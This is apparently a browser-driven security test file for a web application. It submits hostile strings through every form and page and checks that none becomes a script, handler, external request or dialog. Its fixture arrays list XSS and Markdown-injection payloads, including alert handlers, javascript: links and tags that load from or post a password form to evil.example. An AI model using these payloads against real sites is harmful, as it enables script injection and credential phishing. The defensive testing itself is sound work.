// Hostile texts in everything that people can write, and every page that shows them, in a
// real browser: nothing of them becomes an element, an attribute, a script or a request
// (safety C1, C4).

import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { draftAsk, moveAsk, sentAsk } from '../support/asks.mjs';
import { addGoal, dayFromNow, editBrief, publish, writeBrief } from '../support/briefs.mjs';
import { desktop, openBrowser, openPage, phone } from '../support/browser.mjs';
import { fileCampaign, idOf, movePost, writePost } from '../support/campaigns.mjs';
import { crawl, routeOf } from '../support/crawl.mjs';
import { openCall, takePart } from '../support/help.mjs';
import { bringFile, pressDraft } from '../support/figures.mjs';
import { decode } from '../support/html.mjs';
import { jpegOf } from '../support/pictures.mjs';
import { startInstance } from '../support/instance.mjs';
import { corpus, kinds } from '../support/naughty.mjs';
import { addPerson, signIn } from '../support/people.mjs';
import { accept, answer, ask, fillQuestion, lastAnswer, openRound } from '../support/questions.mjs';
import { allRoutes } from '../support/routes.mjs';

const own = [
    '"><img src=x onerror=alert(1)>', '<svg/onload=alert(2)>', "'-alert(3)-'", '</title><script>alert(4)</script>', 'javascript:alert(5)',
    '</textarea><script>alert(6)</script>', '<?cs var:Person.Name ?><b>', '" autofocus onfocus=alert(7) x="', '<a href=javascript:alert(8)>go</a>',
    '<base href=//evil.example>', '<meta http-equiv=refresh content=0;url=//evil.example>', '<iframe src=//evil.example></iframe>',
    '<link rel=stylesheet href=//evil.example/x.css>', '<form action=//evil.example><button>Sign in', '<style>*{display:none}</style>',
    '&lt;script&gt;alert(9)&lt;/script&gt;', '<math><mtext><script>alert(10)</script>', '\u202egnp.exe<img src=//evil.example/p>',
];
const markdown = [
    '[a](javascript\\:alert(1))', '[a](<javascript\\:alert(1)>)', '[b](data\\:text/html,<script>alert(1)</script>)', '![i](//evil.example/i.png)',
    '![i](http://evil.example/i.png "x\\" onerror=alert(1)")', '<img src=//evil.example/i onerror=alert(1)>', '<javascript:alert(1)>', '[c][1]\n\n[1]: javascript\\:alert(1)',
    '~~~ "><script>alert(1)</script>\nx\n~~~', '```"><script>alert(8)</script>\nx\n```', `> %${'a'.repeat(69)}%\n> [x](onmouseover=alert(1))`,
    '<script>alert(1)</script>', '<iframe src=//evil.example></iframe>', '<form action=//evil.example><input name=password><button>Go</button></form>',
    '<p style="position:fixed;inset:0" id="main" onclick=alert(1)>over</p>', '|a|b|\n|-|:-:|\n|<script>|x|', '[d](//evil.example/d)', '<div id="f-title" name="csrf" class="notice">x</div>',
];
const isLine = (text) => !/[\u0000-\u001f\u007f]/.test(text) && text.trim() === text;
const everything = [...new Set([...own, ...markdown, ...corpus(Infinity)])].filter((text) => !text.includes('\0'));
const absent = corpus(1).length === 0 && 'the corpora are not at hand';
const payloads = [...own, ...corpus(600).filter(isLine)];
const bodies = [...markdown, ...own, ...corpus(150)].filter((text) => !/[\u0000\u00ff]/.test(text));
const rounds = 3;

let instance;
let browser;
let writer;
let helper;
let forms;
const paths = new Set();

// Where the other routes' pages are, if not at the number 1; null for what is no page of who is
// signed in.
const others = {
    '/sign-in': null, '/welcome/*token': null, '/l/*word': null, '/calendar/feed/*key/posts.ics': null,
    '/posts/new': '/posts/new?campaign=1',
};

let next = 0;
// As many of them as fit.
function line(most = 4000) {
    let text = payloads[next++ % payloads.length];
    while (text.length < most / 2)
        text += ` ${payloads[next++ % payloads.length]}`;
    return [...text].slice(0, most).join('').trim() || '<b>';
}
const name = (most) => `<${serialWord()}>${line(most - 12)}`;
let serial = 0;
const serialWord = () => `x${++serial}`;

// One of everything, with a hostile text in each of its fields.
async function writeHostileThings(round) {
    const body = bodies.filter((_, index) => index % rounds === round).join('\n\n');
    const brief = await writeBrief(writer, { title: name(160), summary: line(300), vision: line(1000), body, audience: line(200), key_messages: line(), no_gos: line() });
    const goal = { title: name(160), measure: line(200), unit: line(40) };
    assert.equal((await addGoal(writer, brief, goal)).status, 200);
    assert.equal((await publish(writer, brief, { note: line(300) })).status, 200);
    await editBrief(writer, brief, { title: name(160), vision: line(1000), body: bodies.slice(0, 40).join('\n\n') });
    const published = await publish(writer, brief, { note: line(300) });
    assert.equal(published.path.split('?')[0], brief, published.text.slice(0, 300));
    const [[goalId]] = await instance.sql(`SELECT id FROM goals WHERE brief_id = ${idOf(brief)}`);
    const campaign = await fileCampaign(writer, goalId, { title: name(160), audience: line(300), voice: line(300), message: line(1000), why: [line(300)] });
    const call = await openCall(writer, idOf(campaign), { title: name(160), need: line(2000), done_means: line(500), example: line(1000), topic: line(80) });
    assert.equal((await helper.submit((await helper.get(call)).form(`${call}/offer`), { words: line(500) })).status, 200);
    const [[offer]] = await instance.sql(`SELECT id FROM offers WHERE call_id = ${idOf(call)}`);
    const post = await writePost(writer, campaign, { title: name(200), summary: line(500), body, channel: 1 });
    await movePost(writer, post, 'in_review');
    await movePost(helper, post, 'changes_wanted', { what_worked: line(1000), words: line(2000) });
    if (round === rounds - 1) {
        await leaveThingsToDo(brief, goalId, campaign);
        await leaveFigures(goalId, campaign);
        await askPanel(campaign);
    }
    const plain = await writePost(writer, campaign, { title: name(200), body: line(200), channel: 3 });
    for (const at of [brief, `${brief}/edit`, `${brief}/history`, `${brief}/changes`, `${brief}/publish`, `${brief}/compare/1/2`, `${brief}/versions/1`,
        `/goals/${goalId}`, `/goals/${goalId}/edit`, campaign, `${campaign}/edit`, `${campaign}/people`, `${campaign}/posts`, call, `${call}/edit`,
        `/help-wanted/offers/${offer}`, post, `${post}/edit`, plain, `${plain}/edit`, `/thread/goals/${goalId}`, `/thread${campaign}`, `/thread${post}`])
        paths.add(at);
    if (round === rounds - 1)
        await leaveTexts(post);
}

// The texts that a post had, and one made from it for another channel.
async function leaveTexts(post) {
    await writer.submit((await writer.get(`${post}/channels`)).form(`${post}/channels`), { channel: ['3'], start: 'master' });
    await writer.submit((await writer.get(`${post}/edit`)).form(`${post}/edit`), { title: name(200), summary: line(500), body: bodies.slice(0, 40).join('\n\n'), action: 'draft' });
    const [[sibling]] = await instance.sql(`SELECT post_id FROM post_masters WHERE master_id = ${idOf(post)}`);
    for (const at of [`${post}/versions`, `${post}/versions/1`, `${post}/compare/1/2`, `/posts/${sibling}`, `/posts/${sibling}/edit`, `${post}/channels`])
        paths.add(at);
}

// What campaigns and posts brought: by hand, as a claim, and in files of figures.
async function leaveFigures(goalId, campaign) {
    const post = await writePost(helper, campaign, { title: name(200), body: line(200), channel: 3 });
    await instance.sql(`UPDATE posts SET state = 'published', published_at = UTC_TIMESTAMP(), address = 'https://example.org/' WHERE id = ${idOf(post)}`);
    for (const at of [`/results${campaign}/new`, `/results${post}/new`])
        await writer.submit((await writer.get(at)).form(at), { day: dayFromNow(0), note: line(500), figure: ['1'] });
    const claim = `/results${campaign}/goals/${goalId}`;
    await writer.submit((await writer.get(claim)).form(claim), { how: 'estimated', figure: 1, note: line(500) });
    const quoted = () => `"${name(200).replaceAll('"', '""')}"`;
    const file = (kind) => `Post ID,Title,Campaign,${quoted()},Reach,Likes\n${kind},${quoted()},${quoted()},${quoted()},1,${quoted()}\n`;
    const draft = (await bringFile(writer, file('draft'), { filename: '<x1>.csv' })).path;
    const done = await bringFile(writer, `Post ID,Title,Reach\n1,${quoted()},1\n`, { filename: '<x2>.csv' });
    await pressDraft(writer, done, 'confirm');
    await leaveWhatGoesOut(campaign, post);
    for (const at of ['/results', `/results${campaign}`, `/results${post}`, `/results${post}/share`, `/results${campaign}/new`, `/results${post}/new`, claim,
        '/results/unplanned', '/coverage?section=unplanned', '/import', draft, done.path, `${post}/address`])
        paths.add(at);
}

// A picture of a draft, with what it shows.
async function leavePicture(post) {
    const at = `${post}/pictures`;
    const page = await helper.submit((await helper.get(at)).form(at), { file: { filename: '<x>.jpg', content: jpegOf(16, 16), type: 'image/jpeg' }, words: line(400) });
    assert.equal(page.status, 200, page.text.slice(0, 300));
    paths.add(at);
    paths.add(page.links.find((link) => /\/pictures\/\d+$/.test(link)));
    paths.add(post);
    paths.add(`${post}/edit`);
}

// What the panel is asked about a draft, and what it says.
async function askPanel(campaign) {
    const post = await writePost(helper, campaign, { title: name(200), summary: line(500), body: bodies.slice(0, 40).join('\n\n'), channel: 1 });
    await leavePicture(post);
    await writer.submit((await writer.get('/posts/panel')).form('/posts/panel'), { action: 'join' });
    const asked = await helper.submit((await helper.get(`${post}/panel`)).form(`${post}/panel`),
        { topic: 'own', question: name(200), options: `${line(90)}\n${line(90)}`, closes_on: dayFromNow(9), most: 5 });
    assert.equal(asked.status, 200, asked.text.slice(0, 300));
    const at = `/posts/panel/${(await instance.sql('SELECT MAX(id) FROM panel_asks'))[0][0]}`;
    await writer.submit((await writer.get(at)).form(at), { answer: 1, reason: name(500) });
    await writer.submit((await writer.get('/posts/panel')).form('/posts/panel'), { action: 'save', seen: '1' });
    for (const path of ['/posts/panel', at, `${post}/panel`, '/posts/queue'])
        paths.add(path);
}

// A short link, thanks for sharing, a decision about an article, and what came in from outside.
async function leaveWhatGoesOut(campaign, post) {
    const fill = async (at, action, fields) => (await writer.submit((await writer.get(at)).form(action), fields)).redirects.at(-1)?.split('?')[0];
    const link = await fill(`/results${campaign}/links/new`, `/results${campaign}/links/new`, { post: idOf(post), channel: 2, medium: 'social', content: line(60) });
    await fill(`/results${post}/share`, `/results${post}/share/tell`, { channel: 2, named: '1' });
    await fill(`/results${post}/share`, `/results${post}/share/thanks`, { thanks: line(300) });
    await fill(`/results/unread/${idOf(post)}`, `/results/unread/${idOf(post)}`, { verdict: 'keep', reason: line(300), look_on: dayFromNow(30) });
    const came = await fill('/inbound/new', '/inbound/new', { kind: 'idea', tone: 'bad', words: line(4000), said_by: line(120), address: 'https://example.org/?a=%3Cb%3E', about: `${instance.origin}${campaign}` });
    await fill(came, `${came}/move`, { to: 'answered', said: line(2000) });
    await fill('/inbound/new', '/inbound/new', { kind: 'comment', tone: 'urgent', words: line(4000), said_by: line(120) });
    for (const at of [`/results${campaign}/links`, link, `/results${campaign}/links/name`, '/results/unread?show=decided', `/results/unread/${idOf(post)}`,
        '/inbound', '/inbound?state=', came, `${came}/edit`, `/inbound?campaign=${idOf(campaign)}`])
        paths.add(at);
}

// What people answer each other with: figures, measures, asks in each state; a brief with
// changes to publish, a post to review and one to say that it is out.
async function leaveThingsToDo(brief, goalId, campaign) {
    const goal = `/goals/${goalId}`;
    await writer.submit((await writer.get(goal)).form(`${goal}/progress`), { day: dayFromNow(0), figure: 5, note: line(500) });
    await writer.submit((await writer.get(`${campaign}/measures/new`)).form(`${campaign}/measures/new`),
        { level: 'outcome', measure: line(200), unit: line(40), baseline: 1, target: 5, due_on: dayFromNow(30) });
    const asks = [await draftAsk(writer, goalId, { title: name(160), why: line(2000) })];
    for (let state = 0; state < 3; state++)
        asks.push(await sentAsk(helper, goalId, { title: name(160), why: line(2000) }));
    await moveAsk(writer, asks[2], 'more_wanted', { words: line(2000) });
    await moveAsk(writer, asks[3], 'approved', { words: line(2000) });
    await instance.sql(`UPDATE asks SET change_by = UTC_DATE() - INTERVAL 1 DAY WHERE id = ${idOf(asks[3])}`);
    asks.push(await sentAsk(writer, goalId, { title: name(160), why: line(2000) }));
    const questions = [];
    for (const place of [brief, goal, campaign])
        questions.push(await ask(helper, place, { title: name(200), words: line(2000) }));
    await answer(writer, questions[1], line(4000));
    await accept(helper, questions[1], await lastAnswer(instance, questions[1]));
    await answer(writer, questions[2], line(4000));
    const round = await openRound(writer, { title: name(160), words: line(2000) });
    await fillQuestion(helper, round, { title: name(200) });
    const [[helperId]] = await instance.sql("SELECT id FROM people WHERE user_name = 'helper'");
    questions.push(await ask(writer, goal, { title: name(200), words: line(2000), owner: helperId }));
    questions.push(await ask(writer, goal, { title: name(200), owner: helperId }));
    await answer(helper, questions[4], line(4000));
    for (const at of [...questions, `${questions[3]}/edit`, `${questions[1]}/answers/${await lastAnswer(instance, questions[1])}`, '/questions', round, `${round}/edit`, `/questions/new?goal=${goalId}`, ...asks, `${asks[0]}/edit`, '/asks', '/coverage', `${campaign}/goals/${goalId}/withdraw`, `${goal}/progress/1`])
        paths.add(at);
    others['/settings/*name'] = (await writer.get('/settings')).links.find((link) => link.startsWith('/settings/'));
    others['/campaigns/:number/measures/:number'] = `${campaign}/measures/1`;
    await editBrief(writer, brief, { title: name(160), vision: line(1000) });
    for (const to of ['in_review', 'approved']) {
        const post = await writePost(helper, campaign, { title: name(200), body: line(200), channel: 3 });
        await movePost(helper, post, 'in_review');
        if (to === 'approved')
            await movePost(writer, post, 'approved', { what_worked: line(1000) });
        paths.add(post);
    }
}

before(async () => {
    [instance, browser] = await Promise.all([startInstance(), openBrowser()]);
    const ids = {};
    for (const person of ['writer', 'helper'])
        ids[person] = await addPerson(instance, person, 'admin');
    await instance.sql("UPDATE people SET roles = 15");
    writer = await signIn(instance, 'writer');
    helper = await signIn(instance, 'helper');
    await writer.submit((await writer.get('/departments')).form('/departments'), { name: line(80) });
    await writer.submit((await writer.get('/channels/1')).form('/channels/1'), { name: name(40), address: 'https://example.org/"><b>' });
    paths.add('/channels').add('/channels/1');
    for (const client of [writer, helper]) {
        const page = await client.submit((await client.get('/me')).form('/me'), { name: name(100), title: line(100), department: 1 });
        assert.equal(page.status, 200);
        await takePart(client, { seen: 1, interests: '<img src=x>, "><b>, onload=' });
    }
    for (let round = 0; round < rounds; round++)
        await writeHostileThings(round);
    const word = await writer.submit((await writer.get('/glossary/new')).form('/glossary/new'),
        { word: name(80), meaning: line(500), counterpart: line(80), forms: `${line(200)}, alert` });
    assert.equal(word.status, 200);
    for (const at of ['/glossary', '/glossary/1', '/glossary/1/edit'])
        paths.add(at);
    for (const at of ['/', '/write', '/briefs', '/campaigns', '/posts', '/board', '/calendar', '/calendar?show=list', '/help-wanted', '/help-wanted/mine', '/people', '/accounts', '/departments', '/me',
        '/me/sessions', '/volunteer', `/people/${ids.writer}`, `/people/${ids.helper}`, `/accounts/${ids.helper}`, '/search?q=alert', '/search?q=script',
        `/search?q=${encodeURIComponent(own[0])}`, `/people?q=${encodeURIComponent(own[1])}`])
        paths.add(at);
    forms = (await crawl(writer, { from: [...paths], each: 6 })).forms.filter(({ route }) => route);
});
after(async () => {
    await browser?.close();
    await instance?.stop();
});

// What of the page is alive though no template of ours made it.
const alive = () => {
    const found = [];
    for (const element of document.querySelectorAll('*')) {
        for (const { name: attribute, value } of element.attributes)
            if (/^(on|srcdoc$|formaction$|ping$|style$)/.test(attribute) && !(attribute === 'style' && element.matches('html, body, [data-grown]')))
                found.push(`<${element.localName} ${attribute}="${value}">`);
        if (element.matches('iframe, object, embed, base, applet, frame, meta[http-equiv], math, marquee, video, audio') || /^x\d+$/.test(element.localName))
            found.push(`<${element.localName}>`);
        for (const attribute of ['href', 'src', 'action', 'xlink:href', 'data', 'poster', 'background']) {
            const value = element.getAttribute(attribute);
            if (value === null || element.closest('a[href]') === element)
                continue;
            const url = new URL(value, document.baseURI);
            if (url.origin !== location.origin && url.protocol !== 'data:')
                found.push(`<${element.localName} ${attribute}="${value}">`);
        }
    }
    for (const script of document.querySelectorAll('script, style, link[rel=stylesheet]'))
        if (!(script.src || script.href || '').startsWith(`${location.origin}/static/`))
            found.push(script.outerHTML.slice(0, 120));
    for (const link of document.links)
        if (![':', 'http:', 'https:', 'mailto:'].includes(link.protocol)) // ':': no address at all, it leads nowhere
            found.push(link.outerHTML.slice(0, 120));
    for (const form of document.forms)
        if (!/^\/(?!\/)|^$/.test(form.getAttribute('action') ?? ''))
            found.push(form.outerHTML.slice(0, 120));
    const ids = [...document.querySelectorAll('[id]')].map(({ id }) => id);
    for (const id of ids.filter((one, index) => ids.indexOf(one) !== index))
        found.push(`id ${id} twice`);
    return found;
};

async function visit(page, path, shows = true) {
    const answer = await page.goto(path);
    assert.equal(answer.status(), 200, path);
    if (shows)
        assert.match(await page.textContent('body'), /<x\d+>/, `${path} shows them`);
    assert.deepEqual(await page.evaluate(alive), [], path);
    assert.deepEqual(page.problems, [], path);
}

// Each other page that there is a route for.
async function visitOthers(page) {
    const visited = new Set([...paths].map((path) => routeOf(path, 'GET').pattern));
    const isPage = (pattern) => !/\/(csv|json|markdown|healthz|digest\.txt|pictures\/\*name)$/.test(pattern); // others are files and texts
    for (const route of allRoutes().filter(({ method, pattern }) => method === 'GET' && isPage(pattern) && !visited.has(pattern))) {
        const at = route.pattern in others ? others[route.pattern] : route.path(1);
        if (at)
            await visit(page, at, false);
    }
}

async function watched(options) {
    const page = await openPage(browser, instance, options);
    page.on('dialog', (dialog) => {
        if (dialog.type() !== 'beforeunload')
            page.problems.push(`dialog ${dialog.message()}`);
        dialog.accept();
    });
    return page;
}

const texts = [kinds.line, kinds.text, kinds.email, kinds.url];
const isText = ({ name, kind }) => texts.includes(kind) && !['next', 'time_zone', 'preview', 'add', 'message'].includes(name);

// All of them in pieces of so many bytes as a form sends them, for a field of one line or of
// many.
const made = new Map();
function pieces(most, isOneLine) {
    const key = `${most} ${isOneLine}`;
    if (made.has(key))
        return made.get(key);
    const list = [[]];
    let size = 0;
    for (const text of everything) {
        const one = isOneLine ? text.replace(/[\u0000-\u001f\u007f]+/g, ' ').trim() : text.replace(/\r\n?/g, '\n');
        const length = encodeURIComponent(one).length + 3;
        if (size + length > most) {
            list.push([]);
            size = 0;
        }
        list.at(-1).push(one);
        size += length;
    }
    made.set(key, list.map((some) => some.join(isOneLine ? ' ' : '\n').trim()));
    return made.get(key);
}

// Every text of every form in the route tables, with a form that shows it.
const everyText = () => allRoutes().filter(({ method }) => method === 'POST').flatMap((route) => route.fields.filter(isText)
    .map((field) => ({ route, field, form: forms.find((one) => one.route.pattern === route.pattern && one.names.includes(field.name)) })));

describe('C1: every text of every form', { skip: absent }, () => {
    test('C1: is shown by a form here, but those of who is not signed in and of the preview', () => {
        assert.deepEqual(everyText().filter(({ form }) => !form).map(({ route, field }) => `${route.pattern} ${field.name}`),
            ['/sign-in name', '/briefs/preview text', ...['accept', 'pass', 'support', 'agree'].map((way) => `/questions/:number/${way} said`), '/posts/preview text', '/asks/:number/move said', '/asks/:number/decide said',
                '/asks/:number/outcome words']);
    });

    test('C1: gives back the whole of the corpora as they were sent', async () => {
        const faults = [];
        let sent = 0;
        const valueIn = (page, form, { name }) => page.forms.filter(({ action }) => action === form.action)
            .flatMap(({ fields }) => fields).find(([one]) => one === name)?.[1];
        for (const { field, form } of everyText().filter((one) => one.form))
            for (const text of pieces(50_000, field.kind !== kinds.text)) {
                const page = await writer.submit(form, { [field.name]: text }, { follow: false });
                const shown = page.status === 303 ? await writer.get(form.page) : page;
                if (/import$/.test(form.action) ? ![200, 303, 409, 422].includes(page.status) : ![303, 409, 422].includes(page.status) || (valueIn(shown, form, field) ?? text) !== text || !decode(shown.body).includes(text))
                    faults.push(`${form.action} ${field.name} answers ${page.status}: ${page.text.slice(0, 80)}`);
                sent++;
            }
        assert.deepEqual(faults, []);
        assert.ok(sent > 500, `${sent} were sent`);
    });

    // Some pages of each form; all forms together show each text several times.
    test('C1: shows them as texts alone when it comes back with what is wrong', async () => {
        const page = await watched({ person: 'writer' });
        let turn = 0;
        for (const [form, shown] of grouped())
            for (let round = 0; round < 2; round++) {
                const values = shown.map(({ field }) => {
                    const list = pieces(Math.floor(45_000 / shown.length), field.kind !== kinds.text);
                    return [field.name, list[turn++ % list.length]];
                });
                await page.goto(form.page);
                await Promise.all([page.waitForNavigation(), page.evaluate(sendInstead, [form.action, values])]);
                const path = `${form.action} from ${form.page}`;
                assert.ok(await page.evaluate((text) => [...document.querySelectorAll('input, textarea')].some(({ value }) => value.includes(text)) ||
                    document.body.textContent.includes(text), values[0][1].slice(0, 200)), `${path} shows them`);
                assert.deepEqual(await page.evaluate(alive), [], path);
                assert.deepEqual(page.problems.splice(0), [], path);
            }
        await page.context().close();
    });
});

function grouped() {
    const groups = new Map();
    for (const one of everyText().filter(({ form }) => form))
        groups.set(one.form, [...groups.get(one.form) ?? [], one]);
    return groups;
}

// Sends the form of that action with those values in place of its own, however long.
const sendInstead = ([action, values]) => {
    const names = values.map(([name]) => name);
    const shown = [...document.forms].find((one) => one.getAttribute('action') === action && names.every((name) => one.elements.namedItem(name)));
    const kept = [...new FormData(shown)].filter(([name, value]) => !names.includes(name) && typeof value === 'string');
    const copy = Object.assign(document.createElement('form'), { method: 'post', action, enctype: shown.enctype });
    for (const [name, value] of [...kept, ...values])
        copy.append(Object.assign(document.createElement('textarea'), { name, value }));
    document.body.append(copy);
    copy.submit();
};

describe('C4: Markdown', { skip: absent }, () => {
    // Each text by itself, so that none swallows another.
    function framed(text) {
        const line = text.replaceAll('\n', ' ');
        const escaped = line.replaceAll(':', '\\:');
        return `[x](${line})\n\n[x](${escaped})\n\n[x](<${escaped}>)\n\n~~~ ${line}\ncode\n~~~\n\n\`\`\`${line}\ncode\n\`\`\`\n\n${text}\n`;
    }

    // What a text becomes; undefined where the page says that it took too long.
    async function rendered(token, text) {
        const { status, body } = await writer.post('/briefs/preview', { form_token: token, text: framed(text) });
        assert.equal(status, 200, `${text.slice(0, 200)} answers ${status}`);
        return body.match(/<div class="prose">(.*)<\/div>/s)?.[1];
    }

    // Of each text, several at a time; those that took too long beside others again, by themselves.
    async function renderedAll(token, texts) {
        const html = [];
        const late = [];
        const wanted = [...texts.entries()];
        await Promise.all(Array.from({ length: 4 }, async () => {
            for (let next = wanted.pop(); next; next = wanted.pop())
                if ((html[next[0]] = await rendered(token, next[1])) === undefined)
                    late.push(next);
        }));
        for (const [at, text] of late) {
            for (let tries = 0; tries < 20 && html[at] === undefined; tries++)
                html[at] = await rendered(token, text);
            assert.ok(html[at] !== undefined, `takes too long by itself: ${text.slice(0, 200)}`);
        }
        return html;
    }

    test('C4: of the whole corpora, as they stand, as links, as fence information, with escaped colons, is inactive', async () => {
        const token = (await writer.get('/me')).form('/me').fields.find(([name]) => name === 'form_token')[1];
        const html = await renderedAll(token, everything);
        const [brief] = await instance.sql("SELECT id FROM briefs WHERE state = 'published' LIMIT 1");
        const page = await watched({ person: 'writer' });
        for (let at = 0; at < html.length; at += 400) {
            const some = html.slice(at, at + 400).map((one) => `<div>${one}</div>`).join('\n');
            const stored = Buffer.from(`<div class="from-${at}">${some}</div>`);
            await instance.sql(`UPDATE brief_versions SET body_html = CONVERT(x'${stored.toString('hex')}' USING utf8mb4) WHERE brief_id = ${brief}`);
            await reloadUntil(page, `/briefs/${brief}`, `.from-${at}`); // a worker may keep the text before for a second
            await visit(page, `/briefs/${brief}`, false);
            assert.equal(await page.locator(`.from-${at} > div`).count(), Math.min(400, html.length - at));
        }
        await page.context().close();
    });
});

async function reloadUntil(page, path, selector) {
    const until = Date.now() + 10_000;
    do
        await page.goto(path);
    while (await page.locator(selector).count() === 0 && Date.now() < until);
}

describe('C1: hostile texts in a browser', () => {
    for (const [words, options] of [['with scripts', { viewport: desktop }], ['on a phone, dark', { viewport: phone, dark: true }]])
        test(`C1: are only texts on every page, ${words}`, async () => {
            const page = await watched({ person: 'writer', ...options });
            const every = words === 'with scripts' ? 1 : 4;
            assert.ok(paths.size > 70, `${paths.size} pages`);
            for (const path of [...paths].filter((_, index) => index % every === 0))
                await visit(page, path);
            if (every === 1)
                await visitOthers(page);
            await page.context().close();
        });

    test('C1: are only texts where one signs in', async () => {
        const page = await watched({});
        for (const path of [`/sign-in?next=${encodeURIComponent('/"><script>alert(1)</script>')}`, `/welcome/${encodeURIComponent('"><x9>')}`, '/<script>alert(1)</script>']) {
            await page.goto(path);
            assert.deepEqual(await page.evaluate(alive), [], path);
        }
        assert.deepEqual(page.problems, []);
        await page.context().close();
    });

    test('C1: are only texts in the palette', async () => {
        const page = await watched({ person: 'writer' });
        await page.goto('/');
        for (const words of ['alert', 'script', '<img src=x onerror=alert(1)>']) {
            await page.keyboard.press('Control+k');
            const answered = page.waitForResponse((answer) => new URL(answer.url()).searchParams.get('q') === words);
            await page.locator('dialog[open] input').fill(words);
            await answered;
            await page.waitForFunction(() => document.querySelector('.palette-list').childElementCount > 0);
            assert.deepEqual(await page.evaluate(alive), [], words);
            await page.keyboard.press('Escape');
        }
        assert.deepEqual(page.problems, []);
        await page.context().close();
    });

    test('C1: are only texts in the preview of the editor, and when a form with errors shows them again', async () => {
        const page = await watched({ person: 'writer' });
        for (let at = 0; at < bodies.length; at += 60) {
            await page.goto('/briefs/new');
            await page.fill('[name=body]', bodies.slice(at, at + 60).join('\n\n'));
            await page.click('[data-mode=preview]');
            await page.waitForFunction(() => document.querySelector('.editor-preview').textContent.trim() !== '');
            assert.deepEqual(await page.evaluate(alive), [], `preview from ${at}`);
        }
        await page.goto('/campaigns/new');
        for (const field of ['title', 'audience', 'voice', 'message'])
            await page.fill(`[name=${field}]`, own[5]);
        await Promise.all([page.waitForNavigation(), page.getByRole('button', { name: 'File the campaign' }).click()]);
        assert.equal(await page.inputValue('[name=message]'), own[5]);
        assert.match(await page.title(), /^Error: /);
        assert.deepEqual(await page.evaluate(alive), []);
        assert.deepEqual(page.problems, []);
        await page.context().close();
    });
});
